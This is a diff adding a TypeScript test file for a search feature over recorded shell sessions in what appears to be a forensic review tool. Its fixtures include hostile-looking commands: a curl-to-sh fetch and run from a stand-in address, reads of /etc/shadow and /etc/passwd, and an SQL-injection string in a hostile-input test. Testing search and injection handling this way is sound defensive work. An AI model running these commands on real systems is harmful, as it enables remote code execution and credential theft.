@@ -1,0 +1,379 @@
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { derivePublicKey, fingerprint } from '../../src/main/crypto/x25519-keys';
+import { importFile, type ImportOptions } from '../../src/main/ingest/import-file';
+import { searchCase, type SearchOptions, type SearchStep } from '../../src/main/search/run-search';
+import type { SearchHit, SearchResult } from '../../src/main/search/search-types';
+import { replaceProgramCommands } from '../../src/main/store/command-store';
+import { openCase, type CaseDb } from '../../src/main/store/open-case';
+import { addProgram, result, shellCommand, strayOutput } from '../helpers/extraction-result';
+import { sample, samplePrivateKey, tempDir, truth } from '../helpers/fixtures';
+
+/**
+ * A case of real imported recordings (the exec sample as asciicast, capture and Logpush, with the
+ * Logpush file's shell sessions) plus two sessions written through replaceProgramCommands the
+ * way the shell extractor will write them. Expectations are about the exec samples and these
+ * two sessions, and are written by hand: never produced by the code under test.
+ */
+
+const key = samplePrivateKey();
+const withSampleKey: ImportOptions = { keys: async () => [{ fingerprint: fingerprint(derivePublicKey(key)), privateKey: key }] };
+const EXEC = truth('sample-exec').exec_command!;
+const NOOR_START = Date.UTC(2026, 10, 19, 8, 0) * 1000;
+const SAM_START = Date.UTC(2026, 10, 20, 12, 0) * 1000;
+const BANNER = 'Welcome to Ubuntu 22.04.4 LTS\nLast login: Thu Nov 19 07:58:12 2026 from 198.51.100.23';
+
+const dir = tempDir();
+let db: CaseDb;
+let noor: number;
+let sam: number;
+let castProgram: number;
+let logpushExec: number;
+let captureProgram: number;
+
+beforeAll(async () => {
+  db = openCase(join(dir.path, 'case.sqlite'));
+  for (const name of ['sample-exec.cast', 'sample-exec.capture', 'logpush.ndjson.gz']) expect((await importFile(db, sample(name), withSampleKey)).status).toBe('imported');
+  const row = (sql: string): number => db.prepare(sql).pluck().get() as number;
+  castProgram = row(`SELECT p.id FROM programs p JOIN program_sources ps ON ps.program_id = p.id JOIN sources s ON s.id = ps.source_id WHERE s.format = 'asciicast'`);
+  captureProgram = row(`SELECT p.id FROM programs p JOIN program_sources ps ON ps.program_id = p.id JOIN sources s ON s.id = ps.source_id WHERE s.format = 'capture'`);
+  logpushExec = row(`SELECT p.id FROM programs p JOIN program_sources ps ON ps.program_id = p.id JOIN sources s ON s.id = ps.source_id WHERE s.format = 'logpush' AND p.type = 'exec'`);
+  // What the Logpush file's interactive sessions yield is the shell extractor's business (tested
+  // with it): keep these tests to the exec recordings and the two sessions written below.
+  db.exec("DELETE FROM programs WHERE type = 'shell'");
+
+  noor = addProgram(db, {
+    userEmail: 'noor.khan@corp.example',
+    username: 'noor',
+    targetId: '7f3e9c1a-5b2d-4c8e-9f01-23456789abcd',
+    clientAddress: '198.51.100.23:50022',
+    serverAddress: '[2001:db8::7]:22',
+    startedAtUs: NOOR_START,
+  });
+  replaceProgramCommands(
+    db,
+    noor,
+    result(
+      [
+        shellCommand('sudo cat /etc/shadow', 'root:*:19000:0:99999:7:::', 2_000_000, { exitStatus: 0 }),
+        shellCommand('ssh deploy@10.20.30.40 -p 2222', 'deploy@10.20.30.40: Permission denied (publickey).', 9_000_000, { exitStatus: 255 }),
+        shellCommand('grep -rn passwd /etc/pam.d', '/etc/pam.d/common-password:25:password [success=1 default=ignore] pam_unix.so obscure sha512', 15_000_000, { exitStatus: 0 }),
+        shellCommand('cp /etc/opasswd /tmp/o', '', 20_000_000, { exitStatus: 0 }),
+        shellCommand('passwd', 'Changing password for noor.\nCurrent password: \npasswd: Authentication token manipulation error', 30_000_000, { exitStatus: 1 }),
+        shellCommand('python3', 'Python 3.11.2 (main, Mar 13 2023)', 40_000_000),
+        shellCommand("import os; os.system('id')", 'uid=1000(noor) gid=1000(noor)', 45_000_000, { kind: 'program-input', method: 'keystrokes', programName: 'python3', parentIndex: 5 }),
+        shellCommand(`echo "'); DROP TABLE commands; --" NEAR(a b) text:col`, '', 50_000_000, { exitStatus: 0 }),
+      ],
+      [strayOutput(BANNER, 100_000, 0)],
+    ),
+  );
+  sam = addProgram(db, {
+    userEmail: 'sam.park@corp.example',
+    targetId: 'c0ffee00-1111-4222-8333-444455556666',
+    clientAddress: '203.0.113.9:41000',
+    serverAddress: '10.1.2.3:22',
+    startedAtUs: SAM_START,
+  });
+  replaceProgramCommands(
+    db,
+    sam,
+    result([
+      shellCommand('cat /etc/passwd | grep -v nologin', 'root:x:0:0:root:/root:/bin/bash\nsam:x:1000:1000::/home/sam:/bin/bash', 1_000_000, { exitStatus: 0 }),
+      shellCommand('curl -fsSL http://203.0.113.50/x.sh | sh', 'sh: 1: cannot create /usr/local/bin/x: Permission denied', 60_000_000, { exitStatus: 2 }),
+      shellCommand('ls -la /root', "ls: cannot open directory '/root': Permission denied", 3_600_000_000, { exitStatus: 2 }),
+      shellCommand("echo 'Größe café' > /tmp/ünï.txt", '', 3_700_000_000, { exitStatus: 0 }),
+    ]),
+  );
+});
+afterAll(() => {
+  db.close();
+  dir.cleanup();
+});
+
+function search(query: string, options: SearchOptions = {}): SearchResult {
+  const outcome = searchCase(db, query, { limit: 100, ...options });
+  if (!outcome.ok) throw new Error(`${query}: ${outcome.error.message}`);
+  return outcome.result;
+}
+
+const commandTexts = (q: string): string[] => search(`in:commands ${q}`).hits.map((h) => h.text!).sort();
+const programsOf = (r: SearchResult): string[] => [...new Set(r.hits.map((h) => h.program))].sort();
+const p = (row: number): string => `p${row}`;
+
+describe('substring search', () => {
+  it('finds the exec sample by a fragment of a path in its command line, in the cast and the Logpush record', () => {
+    const r = search('in:commands debian_ver');
+    expect(programsOf(r)).toEqual([p(castProgram), p(logpushExec)].sort());
+    expect(r.hits.every((h) => h.text === EXEC && h.in === 'command')).toBe(true);
+    expect(r.total).toBe(2);
+    expect(r.totalCapped).toBe(false);
+  });
+
+  it('finds "low disk" in the stderr output of the three exec recordings, with no command for the capture', () => {
+    const r = search('in:output "low disk"');
+    expect(programsOf(r)).toEqual([p(castProgram), p(logpushExec), p(captureProgram)].sort());
+    const capture = r.hits.find((h) => h.program === p(captureProgram))!;
+    expect(capture).toMatchObject({ command: null, text: null, in: 'output' });
+    const cast = r.hits.find((h) => h.program === p(castProgram))!;
+    expect(cast.command).toMatch(/^c\d+$/);
+    expect(cast.text).toBe(EXEC);
+  });
+
+  it('matches case-insensitively, inside words, IP fragments and flags', () => {
+    expect(commandTexts('ETC/SHAD')).toEqual(['sudo cat /etc/shadow']);
+    expect(commandTexts('0.20.30.')).toEqual(['ssh deploy@10.20.30.40 -p 2222']);
+    expect(commandTexts('-fssl')).toEqual(['curl -fsSL http://203.0.113.50/x.sh | sh']);
+    expect(commandTexts('passwd')).toEqual(['cat /etc/passwd | grep -v nologin', 'cp /etc/opasswd /tmp/o', 'grep -rn passwd /etc/pam.d', 'passwd']);
+  });
+
+  it('matches a quoted phrase as one piece of text, spaces included', () => {
+    expect(commandTexts('"cat /etc"')).toEqual(['cat /etc/passwd | grep -v nologin', EXEC, EXEC, 'sudo cat /etc/shadow']);
+    expect(commandTexts('"cat  /etc"')).toEqual([]);
+  });
+
+  it('requires every term in the same command or output', () => {
+    expect(commandTexts('cat shadow')).toEqual(['sudo cat /etc/shadow']);
+    expect(search('passwd Authentication').hits.map((h) => h.in)).toEqual(['output']);
+    expect(search('shadow Authentication').total).toBe(0);
+  });
+
+  it('finds non-ASCII text', () => {
+    expect(commandTexts('größe')).toEqual(["echo 'Größe café' > /tmp/ünï.txt"]);
+    expect(commandTexts('ünï')).toEqual(["echo 'Größe café' > /tmp/ünï.txt"]);
+  });
+
+  it('finds text of 1 or 2 characters in a small case, by testing its rows', () => {
+    expect(commandTexts('-p')).toEqual(['ssh deploy@10.20.30.40 -p 2222']);
+    expect(commandTexts('| sh')).toEqual(['curl -fsSL http://203.0.113.50/x.sh | sh']);
+  });
+});
+
+describe('whole words, phrases of words and prefixes', () => {
+  it('matches whole words only', () => {
+    expect(commandTexts('=passwd')).toEqual(['cat /etc/passwd | grep -v nologin', 'grep -rn passwd /etc/pam.d', 'passwd']);
+    expect(commandTexts('word:root')).toEqual(['ls -la /root']);
+  });
+
+  it('matches a phrase of words across punctuation, in order', () => {
+    expect(commandTexts('="etc passwd"')).toEqual(['cat /etc/passwd | grep -v nologin']);
+    expect(commandTexts('=etc/pam')).toEqual(['grep -rn passwd /etc/pam.d']);
+  });
+
+  it('folds case and diacritics for words', () => {
+    expect(commandTexts('=CAFE')).toEqual(["echo 'Größe café' > /tmp/ünï.txt"]);
+  });
+
+  it('matches words by their start', () => {
+    expect(search('in:output pass*').hits.map((h) => h.program)).toEqual(expect.arrayContaining([p(noor)]));
+    expect(search('in:output pass*').hits.every((h) => /\bpass/i.test(h.snippet))).toBe(true);
+    expect(commandTexts('opass*')).toEqual(['cp /etc/opasswd /tmp/o']);
+    expect(commandTexts('asswd*')).toEqual([]);
+  });
+
+  it('combines substring and word terms', () => {
+    expect(commandTexts('=grep etc/pa')).toEqual(['cat /etc/passwd | grep -v nologin', 'grep -rn passwd /etc/pam.d']);
+  });
+});
+
+describe('filters', () => {
+  it('user: by email (any case), by the part before @, or by username', () => {
+    expect(programsOf(search('user:NOOR.KHAN@corp.example'))).toEqual([p(noor)]);
+    expect(programsOf(search('user:sam.park passwd'))).toEqual([p(sam)]);
+    expect(programsOf(search('user:noor passwd'))).toEqual([p(noor)]);
+    expect(programsOf(search('user:alex.dev@example.org debian'))).toEqual([p(logpushExec)]);
+    expect(search('user:nobody@corp.example passwd').total).toBe(0);
+  });
+
+  it('repeated filters are alternatives', () => {
+    expect(programsOf(search('user:noor user:sam.park passwd'))).toEqual([p(noor), p(sam)].sort());
+  });
+
+  it('target: by id or its first characters', () => {
+    expect(programsOf(search('target:7f3e9c1a passwd'))).toEqual([p(noor)]);
+    expect(programsOf(search('target:C0FFEE00-1111-4222-8333-444455556666'))).toEqual([p(sam)]);
+    expect(programsOf(search('target:cac3331d debian'))).toEqual([p(logpushExec)]);
+  });
+
+  it('host: the client or server address, any port unless given, IPv6 too', () => {
+    expect(programsOf(search('host:198.51.100.23'))).toEqual([p(noor)]);
+    expect(programsOf(search('host:198.51.100.2'))).toEqual([]);
+    expect(programsOf(search('host:2001:db8::7'))).toEqual([p(noor)]);
+    expect(programsOf(search('host:[2001:db8::7]:22'))).toEqual([p(noor)]);
+    expect(programsOf(search('host:10.1.2.3:22'))).toEqual([p(sam)]);
+    expect(programsOf(search('host:203.0.113.80 debian'))).toEqual([p(logpushExec)]);
+  });
+
+  it('type: the program type, and kind: the command kind', () => {
+    expect(programsOf(search('type:exec "low disk"'))).toEqual([p(castProgram), p(logpushExec), p(captureProgram)].sort());
+    expect(search('type:exec passwd').total).toBe(0);
+    expect(search('kind:program-input').hits.map((h) => `${h.in}:${h.text}`).sort()).toEqual(["command:import os; os.system('id')", "output:import os; os.system('id')"]);
+    expect(search('kind:exec in:commands').hits.map((h) => h.text)).toEqual([EXEC, EXEC]);
+  });
+
+  it('exit: the command exit status; stray output has none', () => {
+    expect(commandTexts('exit:2')).toEqual(['curl -fsSL http://203.0.113.50/x.sh | sh', 'ls -la /root']);
+    expect(commandTexts('exit:255 exit:1')).toEqual(['passwd', 'ssh deploy@10.20.30.40 -p 2222']);
+    expect(commandTexts('exit:nonzero user:sam.park')).toEqual(['curl -fsSL http://203.0.113.50/x.sh | sh', 'ls -la /root']);
+    expect(search('exit:0 Welcome').total).toBe(0);
+  });
+
+  it('after: and before: on the hit time, with dates and datetimes', () => {
+    expect(programsOf(search('after:2026-11-20 passwd'))).toEqual([p(sam)]);
+    expect(programsOf(search('before:2026-11-20 passwd'))).toEqual([p(noor)]);
+    // Sam's session: "ls -la /root" at 13:00:00Z, the curl a minute after 12:00.
+    expect(commandTexts('after:2026-11-20T12:30 before:2026-11-20T13:00:01Z')).toEqual(['ls -la /root']);
+    expect(commandTexts('after:2026-11-20T12:30 before:2026-11-20T13:00:00Z')).toEqual([]);
+    expect(commandTexts('after:"2026-11-20 14:00:30+02:00" before:2026-11-20T12:01:01')).toEqual(['curl -fsSL http://203.0.113.50/x.sh | sh']);
+  });
+
+  it('in: commands or output', () => {
+    expect(search('in:commands Authentication').total).toBe(0);
+    expect(search('in:output Authentication').hits.map((h) => h.text)).toEqual(['passwd']);
+    expect(new Set(search('passwd').hits.map((h) => h.in))).toEqual(new Set(['command', 'output']));
+  });
+
+  it('session: and program:', () => {
+    const session = search('program:' + p(sam)).hits[0]!.session;
+    expect(programsOf(search(`session:${session}`))).toEqual([p(sam)]);
+    expect(commandTexts(`program:${p(noor)} ssh`)).toEqual(['ssh deploy@10.20.30.40 -p 2222']);
+  });
+
+  it('a filter that leaves no program gives no hits', () => {
+    expect(search('target:ffffffff passwd')).toEqual({ total: 0, totalCapped: false, hits: [] });
+  });
+});
+
+describe('results', () => {
+  it('rank the exact command first, whole words next (the shorter line first), a match inside a word last', () => {
+    expect(search('in:commands passwd').hits.map((h) => h.text)).toEqual([
+      'passwd',
+      'grep -rn passwd /etc/pam.d',
+      'cat /etc/passwd | grep -v nologin',
+      'cp /etc/opasswd /tmp/o',
+    ]);
+  });
+
+  it('rank command lines before output of the same quality', () => {
+    const r = search('=passwd');
+    expect(r.hits.map((h) => h.in)).toEqual(['command', 'command', 'command', 'output']);
+  });
+
+  it('give the session, program, command, user, target, time and where to jump in the replay', () => {
+    const [hit] = search('in:commands ssh deploy').hits as [SearchHit];
+    const row = db.prepare('SELECT id, output_start_offset FROM commands WHERE text LIKE ?').get('ssh deploy%') as { id: number; output_start_offset: number };
+    expect(hit).toMatchObject({
+      program: p(noor),
+      command: `c${row.id}`,
+      in: 'command',
+      time: '2026-11-19T08:00:09.000Z',
+      text: 'ssh deploy@10.20.30.40 -p 2222',
+      userEmail: 'noor.khan@corp.example',
+      targetId: '7f3e9c1a-5b2d-4c8e-9f01-23456789abcd',
+      replay: { atUs: 9_000_000, outputOffset: row.output_start_offset },
+    });
+    expect(hit.session).toMatch(/^s\d+$/);
+  });
+
+  it('give output hits the time and byte offset where that output starts', () => {
+    const hit = search('in:output publickey').hits[0]!;
+    expect(hit.replay.atUs).toBe(9_001_000);
+    expect(hit.time).toBe('2026-11-19T08:00:09.001Z');
+    const banner = search('in:output Welcome').hits[0]!;
+    expect(banner).toMatchObject({ command: null, text: null, replay: { atUs: 100_000, outputOffset: 0 } });
+  });
+
+  it('give a plain-text snippet with the ranges of every term in it', () => {
+    const hit = search('in:output pam_unix =obscure').hits[0]!;
+    expect(hit.snippet).toBe('/etc/pam.d/common-password:25:password [success=1 default=ignore] pam_unix.so obscure sha512');
+    expect(hit.matches.map((m) => hit.snippet.slice(m.start, m.end))).toEqual(['pam_unix', 'obscure']);
+    const multi = search('in:output "Authentication token"').hits[0]!;
+    expect(multi.snippet).toBe('…passwd: Authentication token manipulation error');
+  });
+
+  it('count every hit below the cap, and say when the count stops at it', () => {
+    expect(search('in:commands passwd').total).toBe(4);
+    const capped = search('in:commands passwd', { candidates: 2 });
+    expect(capped).toMatchObject({ total: 2, totalCapped: true });
+    expect(search('in:commands passwd', { limit: 1 })).toMatchObject({ total: 4, totalCapped: false });
+    expect(search('in:commands passwd', { limit: 1 }).hits).toHaveLength(1);
+  });
+
+  it('list the newest hits first for filters without text', () => {
+    const r = search('user:sam.park in:commands');
+    expect(r.hits.map((h) => h.text)).toEqual(["echo 'Größe café' > /tmp/ünï.txt", 'ls -la /root', 'curl -fsSL http://203.0.113.50/x.sh | sh', 'cat /etc/passwd | grep -v nologin']);
+  });
+});
+
+describe('both ways of finding hits agree', () => {
+  const queries = [
+    'passwd',
+    'in:output "low disk"',
+    '=passwd',
+    'pass*',
+    '=grep etc/pa',
+    'user:noor passwd',
+    'exit:2 in:commands',
+    'after:2026-11-20 =root',
+    'type:exec debian',
+    'host:198.51.100.23 =password',
+    'größe',
+    '=cafe',
+    '-p deploy',
+  ];
+  it.each(queries)('%s', (q) => {
+    const ways: string[] = [];
+    const trace = (s: SearchStep): void => void ways.push(s.way);
+    const scanned = search(q, { force: 'scan', trace });
+    const walked = search(q, { force: 'walk', trace });
+    const key = (r: SearchResult): string[] => r.hits.map((h) => `${h.in} ${h.program} ${h.command} ${h.replay.atUs}`).sort();
+    expect(key(walked)).toEqual(key(scanned));
+    expect(walked.total).toBe(scanned.total);
+    expect(scanned.total).toBeGreaterThan(0);
+    expect(ways).toContain('scan');
+    expect(ways.some((w) => w.startsWith('walk'))).toBe(true);
+  });
+});
+
+describe('hostile input is text', () => {
+  it.each([
+    [`"'); DROP TABLE commands; --"`, 1],
+    ['NEAR(a', 1],
+    ['text:col', 1],
+    ['"NEAR(a b)"', 1],
+    ['AND', 1], // in "commands"
+    ['=AND', 0],
+    ['=NEAR', 1],
+    ['^root', 0],
+    ['"*"', 0],
+    ['{a', 0],
+  ])('%s finds %i command(s) holding that text, and breaks nothing', (q, n) => {
+    const r = search(`in:commands ${q}`);
+    expect(r.total).toBe(n);
+    if (n > 0) expect(r.hits[0]!.text).toContain('DROP TABLE commands');
+    expect(db.prepare('SELECT COUNT(*) FROM commands').pluck().get()).toBeGreaterThan(10);
+  });
+
+  it('answers a malformed query with a message and no SQL', () => {
+    const outcome = searchCase(db, 'cat "/etc/passwd');
+    expect(outcome).toEqual({ ok: false, error: { kind: 'query', column: 5, message: expect.stringMatching(/^unbalanced quote/) } });
+  });
+
+  it('refuses a 1-2 character term it would have to test on every row of a large case, and says what to do', () => {
+    const outcome = searchCase(db, 'ls', { scanLimit: 10 });
+    expect(outcome.ok).toBe(false);
+    if (!outcome.ok) {
+      expect(outcome.error).toMatchObject({ kind: 'query', column: 1 });
+      expect(outcome.error.message).toMatch(/^"ls" is shorter than 3 characters.*Search =ls for the whole word/);
+    }
+    expect(searchCase(db, 'ls user:sam.park', { scanLimit: 10 }).ok).toBe(true); // filters leave few rows
+    expect(searchCase(db, 'ls =root', { scanLimit: 10 }).ok).toBe(true); // another term finds the rows
+  });
+
+  it('reports a broken case as a database error without SQL text', () => {
+    const other = openCase(join(dir.path, 'broken.sqlite'));
+    other.exec('DROP TABLE commands_trigram');
+    const outcome = searchCase(other, 'passwd', { force: 'walk' });
+    other.close();
+    expect(outcome).toEqual({ ok: false, error: { kind: 'database', column: null, message: 'the case could not be searched (SQLITE_ERROR)' } });
+  });
+});
